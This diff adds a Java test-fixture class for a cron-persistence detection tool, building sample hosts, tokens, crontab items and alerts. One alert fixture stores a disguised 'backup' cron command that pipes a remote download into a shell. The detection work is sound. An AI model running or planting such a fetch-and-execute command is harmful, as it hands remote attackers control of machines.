@@ -1,0 +1,140 @@
+package bzh.vigie.collector.store;
+
+import bzh.vigie.event.Account;
+import bzh.vigie.event.Event.LocationRead;
+import bzh.vigie.event.Item;
+import bzh.vigie.event.LocationStatus;
+import bzh.vigie.event.Moment;
+import bzh.vigie.event.ReasonCode;
+import bzh.vigie.event.Sha256;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.OptionalLong;
+import java.util.Set;
+import java.util.UUID;
+
+/** Plausible things to store. */
+public final class Specimens {
+    public static final Instant START = Instant.parse("2026-03-02T08:00:00Z");
+    public static final Commune CONCARNEAU = new Commune("29039");
+    public static final Commune AURAY = new Commune("56007");
+    public static final Author ANALYST = new Author("Nolwenn", "seen with the mayor's office");
+
+    private Specimens() {}
+
+    public static AgentId agent(int number) {
+        return new AgentId(new UUID(0x0190_0000_0000_7000L, 0x8000_0000_0000_0000L + number).toString());
+    }
+
+    public static Instant minute(long number) {
+        return START.plusSeconds(60 * number);
+    }
+
+    public static Moment moment(long minute) {
+        return new Moment(minute(minute), "boot-1", minute * 60_000_000L);
+    }
+
+    /** A line of a crontab; without an account one of the machine. */
+    public static Item item(String location, Optional<Account> account, String name, String value, long modified) {
+        return new Item(
+                location,
+                List.of("T1053.003"),
+                "linux",
+                account,
+                name,
+                value,
+                "/etc/cron.d/" + name,
+                "/usr/bin/" + value,
+                Optional.of(Sha256.over(value.getBytes(StandardCharsets.UTF_8))),
+                "",
+                Item.Signature.NOT_CHECKED,
+                "cron",
+                Item.Shipped.AS_PACKAGED,
+                true,
+                modified == 0 ? OptionalLong.empty() : OptionalLong.of(modified),
+                List.of(),
+                "",
+                "",
+                "",
+                "",
+                "",
+                "",
+                Set.of());
+    }
+
+    public static LocationRead read(
+            String location, Optional<Account> account, LocationStatus.State state, long reading, boolean listing) {
+        return new LocationRead(
+                moment(reading),
+                "linux.persistence",
+                new LocationStatus(
+                        location,
+                        account,
+                        state,
+                        ReasonCode.NONE,
+                        "",
+                        "live",
+                        3,
+                        120,
+                        moment(reading).wallMicros(),
+                        1_500,
+                        LocationStatus.Trigger.PASS,
+                        1),
+                reading,
+                listing,
+                Sha256.over(Long.toString(reading).getBytes(StandardCharsets.UTF_8)));
+    }
+
+    public static Hosts.Host host(int number, Commune commune) {
+        return new Hosts.Host(
+                agent(number),
+                commune,
+                "pc-" + number,
+                Hosts.State.ACTIVE,
+                Sha256.over(("key " + number).getBytes(StandardCharsets.UTF_8)),
+                "{\"os\":\"Debian\"}",
+                "0.1.0",
+                START,
+                minute(30 * 24 * 60),
+                Optional.empty(),
+                0,
+                "",
+                "",
+                false);
+    }
+
+    public static Tokens.Token token(String id, Commune commune, int uses) {
+        return new Tokens.Token(
+                id,
+                Sha256.over(id.getBytes(StandardCharsets.UTF_8)),
+                commune,
+                uses,
+                0,
+                START,
+                minute(60),
+                false,
+                false);
+    }
+
+    public static Alerts.Alert alert(String id, Commune commune, int host, String cause, long minute) {
+        return new Alerts.Alert(
+                id,
+                "vigie-item-added",
+                Alerts.Severity.HIGH,
+                List.of("T1053.003"),
+                commune,
+                agent(host),
+                "pc-" + host,
+                cause,
+                id + "-event",
+                minute(minute),
+                minute(minute).minusSeconds(3),
+                Map.of("name", "backup", "value", "curl http://203.0.113.9/x | sh"),
+                Alerts.Status.NEW,
+                1,
+                minute(minute));
+    }
+}
